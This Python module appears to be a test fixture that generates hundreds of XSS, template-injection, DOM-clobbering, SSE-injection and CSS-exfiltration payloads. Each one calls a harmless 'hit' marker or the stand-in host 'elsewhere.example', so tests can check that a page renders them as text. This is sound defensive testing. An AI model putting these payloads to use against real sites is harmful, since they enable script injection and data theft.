"""Words that would do something if a page took them for more than words.

Each does the same when it runs: it calls `hit`, which a watched page counts, or asks for an
address that no page has. All are valid text for the API; none is longer than a description.
"""

import html
import itertools
import urllib.parse
from collections.abc import Iterator

MARK = "souq-hit"  # stands in all, so that tests find them again
RUN = f"window.hit&&hit('{MARK}')"
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpageshow",
    "onwheel",
]
_HTMX = [
    "hx-get",
    "hx-post",
    "hx-on:load",
    "hx-on::after-settle",
    "hx-on:click",
    "hx-trigger",
    "hx-vals",
    "hx-vars",
    "hx-swap",
    "hx-ext",
    "hx-include",
    "hx-boost",
    "hx-target",
    "hx-select-oob",
    "hx-headers",
    "hx-sse",
    "hx-ws",
    "hx-action",
    "hx-config",
]
_OURS = [
    "data-stream",
    "data-live",
    "data-refresh",
    "data-key",
    "data-copy",
    "data-confirm",
    "data-series",
    "data-chart",
    "data-passkey",
    "data-theme-switch",
    "data-pause",
    "data-search",
    "data-to",
    "data-stream-state",
]


def hostile() -> list[str]:
    """Give all of them, each once, in an order that stays."""
    families = (
        _scripts(),
        _handlers(),
        _foreign(),
        _templates(),
        _attributes(),
        _addresses(),
        _breakouts(),
        _mutations(),
        _clobbering(),
        _signs(),
        _encoded(),
        _streams(),
        _styles(),
        _long(),
    )
    return list(dict.fromkeys(itertools.chain.from_iterable(families)))


def _scripts() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "ScRiPt", "script\t", "script/x", "script\n", "svg:script"):
        yield f"<{tag}>{RUN}</{tag.strip().split('/')[0]}>"
        yield f"<{tag} src=//elsewhere.example/{MARK}.js></{tag.strip()}>"
        yield f"<{tag}>{RUN}"
        yield f"<<{tag}>{RUN}//<</{tag}>"
    for kind in ("module", "text/javascript", "importmap", "speculationrules", "text/hyperscript"):
        yield f'<script type="{kind}">{RUN}</script>'
    for nested in ("<scr<script>ipt>", "<script<script>>", "<scr\x00ipt>".replace("\x00", "&#0;")):
        yield f"{nested}{RUN}</script>"
    yield f"<script>/*{MARK}*/import('//elsewhere.example/x')</script>"
    yield f"<script>`{MARK}${{{RUN}}}`</script>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield f"<script nonce='' integrity=''>{RUN}</script>"


def _handlers() -> Iterator[str]:
    for tag, event in itertools.product(("img src=x", "svg", "body"), _EVENTS):
        yield f'<{tag} {event}="{RUN}">'
    for event in _EVENTS:
        yield f'" {event}="{RUN}" x="'
        yield f"x' {event}={RUN} y={MARK}"
    yield f"<img src=x onerror={RUN}//"
    yield f"<img src=x\x0conerror\x0c={RUN}>"
    yield f"<img/src=x/onerror={RUN}>"
    yield f'<img src="x`onerror="{RUN}`">'
    yield f"<input autofocus onfocus={RUN}><video><source onerror={RUN}></video>"
    yield f"<body onload={RUN}><marquee onstart={RUN}>{MARK}</marquee>"
    yield f"<xss id=x tabindex=1 onfocus={RUN}>{MARK}</xss>"
    yield f'<p popover id=p onbeforetoggle="{RUN}"></p><button popovertarget=p>{MARK}</button>'


def _foreign() -> Iterator[str]:
    inner = f'<a xlink:href="javascript:{RUN}"><text y=9>{MARK}</text></a>'
    for tag in ("svg", "math", "svg/onload=x", "math><mtext", "svg><foreignObject", "svg><desc"):
        yield f"<{tag}><script>{RUN}</script>"
        yield f"<{tag}>{inner}"
    for move in ("animate", "set", "animateTransform", "animateMotion"):
        yield f"<svg><{move} onbegin={RUN} attributeName=x dur=1s>"
        yield f"<svg><a><{move} attributeName=href values=javascript:{RUN} /><text>x</text></a>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>"
    yield f"<math href=javascript:{RUN}>{MARK}</math>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>{MARK}"
    yield f"<svg><handler type=text/javascript ev:event=load>{RUN}</handler>"
    yield f"<svg><image href=//elsewhere.example/{MARK}.svg>"


def _templates() -> Iterator[str]:
    for expression in ("7*7", "visit", "self.__init__.__globals__", "config", "lipsum", "cycler"):
        yield f"{{{{ {expression} }}}} {MARK}"
        yield f"{{% print({expression}) %}} ${{{expression}}} <%= {expression} %> {MARK}"
    for block in (
        "{% raw %}", "{% endblock %}", "{% extends 'no.html' %}", "{% include '/etc/passwd' %}",
        "{# ", "{{ '' | attr('__class__') }}", "{{ 'x' | safe }}", "{%- set base = '' -%}",
        "{{ namespace().__init__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}",
        "{0}", "{0.__class__}", "{t.units}", "%s %(x)s %n", "%%{}{}{}", "{!r}", "$$&$1",
    ):  # fmt: skip
        yield f"{block}{MARK}"
        yield f"{MARK}</script>{block}<b onclick={RUN}>"


def _attributes() -> Iterator[str]:
    for name in _HTMX:
        yield f'<b {name}="/do/{MARK}" hx-trigger=load>x</b>'
        yield f'" {name}="{RUN}" data-{name}="{RUN}" x="'
    for name in _OURS:
        yield f'<b {name}="/live?about={MARK}">x</b>'
        yield f'" {name}="/live?about={MARK}" x="'
    yield f"<b hx-get=/do/{MARK} hx-trigger=load>x</b>"
    yield f"<div hx-on::load='{RUN}' hx-trigger='load,every 1s'>x</div>"
    yield f"<form action=/do/approve method=post><button autofocus>{MARK}"
    yield f"<meta http-equiv=refresh content='0;url=/do/{MARK}'>"
    yield f"<base href=//elsewhere.example/{MARK}/>"
    yield f'<meta name=htmx-config content=\'{{"allowEval":true,"x":"{MARK}"}}\'>'


def _addresses() -> Iterator[str]:
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "vbscript:",
        "data:text/html,", "data:text/html;base64,", "blob:", "filesystem:", "view-source:",
        "javascript&colon;", "&#106;avascript:", "//elsewhere.example/", "/\\elsewhere.example/",
        "https://elsewhere.example/", "\\\\elsewhere.example\\", "feed:javascript:", "javascript://%0a",
    ):  # fmt: skip
        yield f"{scheme}{RUN}"
        yield f'<a href="{scheme}{RUN}" autofocus>{MARK}</a>'
        yield f'<iframe src="{scheme}{RUN}">'
    for tag, name in (
        ("object", "data"), ("embed", "src"), ("form", "action"), ("link rel=stylesheet", "href"),
        ("link rel=prefetch", "href"), ("img", "srcset"), ("video", "poster"), ("portal", "src"),
        ("iframe", "srcdoc"), ("audio src=x", "ping"), ("track default", "src"), ("frame", "src"),
    ):  # fmt: skip
        yield f'<{tag} {name}="//elsewhere.example/{MARK}">'
        yield f"<{tag} {name}='<script>{RUN}</script>'>"


def _breakouts() -> Iterator[str]:
    for end in (
        "</title>", "</textarea>", "</script>", "</style>", "</pre>", "</bdi>", "</li></ol>", "-->",
        "--!>", "]]>", "?>", "</template>", "</noscript>", "</dialog>", "</main></body></html>",
        "</option></select>", "</td></tr></table>", "</svg>", "</details>", "</a>", '"/>', "'/>",
        "</xmp>", "</plaintext>", "</iframe>", "</noembed>", "</time>", "</h1>", "</code></pre>",
    ):  # fmt: skip
        yield f"{end}<img src=x onerror={RUN}>"
        yield f"{MARK}{end}<script>{RUN}</script>"
    for start in (
        "<!--", "<![CDATA[", "<?xml ", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<plaintext>", "<xmp>",
        "<textarea>", "<title>", "<style>", "<noscript>", "<template>", "<select>", "<table>",
        "<a href='", '<a href="', "<img alt=`", "<b title='", "<frameset>", "<listing>", "<a ",
    ):  # fmt: skip
        yield f"{start}{MARK}"
        yield f"{start}<img src=x onerror={RUN}>"


def _mutations() -> Iterator[str]:
    payload = f"<img src onerror={RUN}>"
    for shape in (
        "<math><mtext><table><mglyph><style><!--</style>{}",
        "<svg></p><style><a id=\"</style>{}\">",
        "<noscript><p title=\"</noscript>{}\">",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<table><caption><svg><title><template>{}</template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select>{}\">",
        "<math><annotation-xml encoding='text/html'><style>{}</style></annotation-xml>",
        "<template shadowrootmode=open>{}</template>",
        "<b><p><b><p><i>{}</b></p></i>",
        "<a><a><table><a>{}</table></a>",
        "<svg><p><style><g title='</style>{}'>",
        "<listing>&lt;{}&gt;</listing>",
        "<p id='&quot;&gt;{}'>",
        "<table><tr><td><form>{}<tr></form>",
        "<option><style></option></select><b>{}</style>",
    ):  # fmt: skip
        yield shape.replace("{}", payload)
        yield MARK + html.escape(shape.replace("{}", payload))


def _clobbering() -> Iterator[str]:
    names = [
        "body",
        "head",
        "documentElement",
        "location",
        "cookie",
        "forms",
        "childNodes",
        "attributes",
        "hit",
        "htmx",
        "uPlot",
        "told",
        "keys",
        "main",
        "CSS",
        "EventSource",
        "fetch",
        "getElementById",
        "querySelector",
        "defaultView",
        "__proto__",
    ]
    for name in names:
        yield f"<form id={name}><input name={name} value={MARK}></form>"
        yield f'<a id="{name}" name="{name}" href="cid:{RUN}">x</a>'


def _signs() -> Iterator[str]:
    for sign in (
        "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200b", "\u200d", "\u200e", "\u200f",
        "\u2028", "\u2029", "\ufeff", "\u00ad", "\u061c", "\u0085", "\ufffe", "\ufdd0",
        "\ue000", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1b]8;;x\x07", "\x7f",
        "\u0300" * 40, "\U0001f469\u200d\U0001f680", "\uff1cscript\uff1e", "\u3008", "\x9b",
        "\x00",
    ):  # fmt: skip
        yield f"{MARK}{sign}gpj.exe"
    for sign in "\u202e\u200b\u200d\ufeff\u00ad\x01\x0c\x00":
        yield f"<{sign}script>{RUN}</{sign}script>"


def _encoded() -> Iterator[str]:
    for plain in (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f'"><b onclick={RUN}>'):
        yield html.escape(plain)
        yield html.escape(html.escape(plain))
        yield urllib.parse.quote(plain) + MARK
        yield urllib.parse.quote(urllib.parse.quote(plain)) + MARK
        yield "".join(f"&#{ord(sign)};" for sign in plain)
        yield "".join(f"&#x{ord(sign):x};" for sign in plain)
        yield "".join(f"&#{ord(sign):07d}" for sign in plain)
        yield "".join(f"\\u{ord(sign):04x}" for sign in plain) + MARK
        yield "".join(f"\\x{ord(sign):02x}" for sign in plain) + MARK
        yield plain.replace("<", "\uff1c").replace(">", "\uff1e")
        yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
        yield plain.replace("<", "&lt").replace(">", "&gt")
        yield plain.replace("<", "\u00bc").replace(">", "\u00be")


def _streams() -> Iterator[str]:
    for end in ("\n\n", "\r\n\r\n", "\r\r", "\n", "\r", "\u2028\u2028", "\x0b\x0b", "\x85\x85"):
        yield f"{MARK}{end}data: <img src=x onerror={RUN}>{end}"
        yield f"{MARK}{end}event: figures{end}data: <script>{RUN}</script>{end}"
        yield f"{MARK}{end}id: 9007199254740991{end}retry: 1{end}event: series{end}data: no{end}"
    for end in ('"', "'", "\\", '"}', "]}", '"]}</script>', "\\u0022", "*/", "//", "`", "\\\n"):
        yield f"{MARK}{end};{RUN};//"
        yield f'{{"{MARK}": "{end}", "__proto__": {{"hit": "{RUN}"}}}}'


def _styles() -> Iterator[str]:
    for rule in (
        f"body{{background:url(//elsewhere.example/{MARK})}}",
        f"@import '//elsewhere.example/{MARK}.css';",
        f"*{{animation:x;--a:{MARK}}}@keyframes x{{}}",
        f"x{{width:expression({RUN})}}",
        f"input[value^=a]{{background:url(//elsewhere.example/{MARK}a)}}",
        f"@font-face{{font-family:x;src:url(//elsewhere.example/{MARK}.woff)}}",
        f"*{{display:none!important}}/*{MARK}*/",
    ):
        yield f"<style>{rule}</style>"
        yield f"</style><style>{rule}"
        yield f'" style="{rule}'
        yield f'<b style="position:fixed;inset:0;z-index:9;{rule}">x</b>'


def _long() -> Iterator[str]:
    yield MARK + "A" * 3_000
    yield MARK + "\U0001f9ff" * 900
    yield "<b>" * 600 + MARK
    yield "<" * 2_000 + MARK
    yield "&amp;" * 500 + MARK
    yield MARK + "\n" * 900 + f"<img src=x onerror={RUN}>"
    yield MARK + " " * 1_500 + "x"
    yield MARK + "(" * 1_000 + ")" * 1_000
    yield f"<img src=x onerror={RUN} {'x=y ' * 500}>"
    yield MARK + "\u0627\u0644\u0633\u0648\u0642 " * 150
